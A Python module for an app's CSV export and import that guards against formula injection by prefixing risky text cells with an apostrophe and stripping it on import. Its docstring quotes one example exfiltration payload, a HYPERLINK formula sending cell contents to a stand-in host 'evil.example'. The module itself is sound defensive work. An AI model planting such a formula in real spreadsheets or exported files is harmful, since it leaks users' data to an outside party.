"""The one way the app writes CSV files, and the import's way back.

The files are opened by double-click in Excel or LibreOffice, which run a cell that starts
with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return before one) as a formula:
``=HYPERLINK("http://evil.example/?"&A1, "Hier klicken")`` in a title would send data away.
Such a text cell gets a leading apostrophe, which both programs take as "this is text"
(OWASP's advice for CSV injection). Numbers are written as they are: a negative count is a
number, not a formula. The import takes the apostrophe off again, so an exported file
imports as it was.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable

FORMULA_LEADERS = ("=", "+", "-", "@", "\t", "\r")


def neutralise(value: object) -> object:
    """A cell value as it is safe to write: text that would run as a formula is quoted."""
    if isinstance(value, str) and value.startswith(FORMULA_LEADERS):
        return "'" + value
    return value


def unprotect(text: str) -> str:
    """The import's side: the apostrophe ``neutralise`` put before a formula leader."""
    if text.startswith("'") and text[1:].startswith(FORMULA_LEADERS):
        return text[1:]
    return text


def to_csv(columns: Iterable[str], rows: Iterable[Iterable[object]]) -> str:
    """Semicolon-separated with a BOM: what German Excel opens correctly by double-click."""
    out = io.StringIO()
    out.write("\ufeff")
    writer = csv.writer(out, delimiter=";", lineterminator="\r\n")
    writer.writerow([neutralise(c) for c in columns])
    for row in rows:
        writer.writerow([neutralise(c) for c in row])
    return out.getvalue()
